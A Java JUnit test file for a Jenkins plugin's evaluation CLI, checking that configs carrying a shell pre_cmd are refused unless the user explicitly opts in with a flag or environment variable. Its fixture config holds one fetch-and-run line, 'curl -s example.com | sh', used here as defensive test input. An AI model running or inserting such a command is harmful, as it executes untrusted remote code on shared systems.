package io.jenkins.plugins.slurmevaluate.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The launcher's pre_cmd / unlisted-task safeguard (reference a.10) in the CLI: refused before any connection. */
class TrustOptInTest {

    private static final String CONFIG = InvalidConfigsTest.VALID.replace("    - name: arc_challenge\n",
            "    - name: arc_challenge\n  pre_cmd: curl -s example.com | sh\n");

    @TempDir
    Path dir;

    private CliRun run(Map<String, String> env, String... extra) throws Exception {
        Path file = dir.resolve("eval.yaml");
        Files.writeString(file, CONFIG);
        String[] args = new String[6 + extra.length];
        System.arraycopy(new String[] {"run", "-c", file.toString(), "--host", "127.0.0.1", "--port=1"}, 0, args, 0, 6);
        System.arraycopy(extra, 0, args, 6, extra.length);
        java.util.Map<String, String> e = new java.util.HashMap<>(Map.of("HF_TOKEN", "hf_x", "USER", "u"));
        e.putAll(env);
        return CliRun.of(e, dir, args);
    }

    @Test
    void aPreCmdIsRefusedWithWhereItIsAndHowToOptIn() throws Exception {
        CliRun r = run(Map.of());
        assertThat(r.exitCode()).isEqualTo(ExitCode.INVALID);
        assertThat(r.err()).contains("refusing to submit: the config runs shell commands")
                .contains("eval.yaml:21:3: evaluation.pre_cmd (a shell command run on the cluster as written)")
                .contains("To run these commands: pass --trust-pre-cmd (or set NEMO_EVALUATOR_TRUST_PRE_CMD=1)")
                .doesNotContain("127.0.0.1");
    }

    @Test
    void theFlagOrTheVariableSetToOneOptsIn() throws Exception {
        for (CliRun r : new CliRun[] {run(Map.of(), "--trust-pre-cmd"), run(Map.of("NEMO_EVALUATOR_TRUST_PRE_CMD", "1"))}) {
            assertThat(r.err()).doesNotContain("refusing to submit")
                    .contains("warning: trusted: ").contains("evaluation.pre_cmd");
        }
    }

    @Test
    void otherValuesOfTheVariableDoNot() throws Exception {
        assertThat(run(Map.of("NEMO_EVALUATOR_TRUST_PRE_CMD", "true")).err()).contains("refusing to submit");
    }

    @Test
    void aDryRunOnlyWarns() throws Exception {
        CliRun r = run(Map.of(), "--dry-run");
        assertThat(r.exitCode()).isEqualTo(ExitCode.PASS);
        assertThat(r.err()).contains("warning: a real run would be refused: the config runs shell commands")
                .contains("warning: To run these commands: pass --trust-pre-cmd");
    }
}
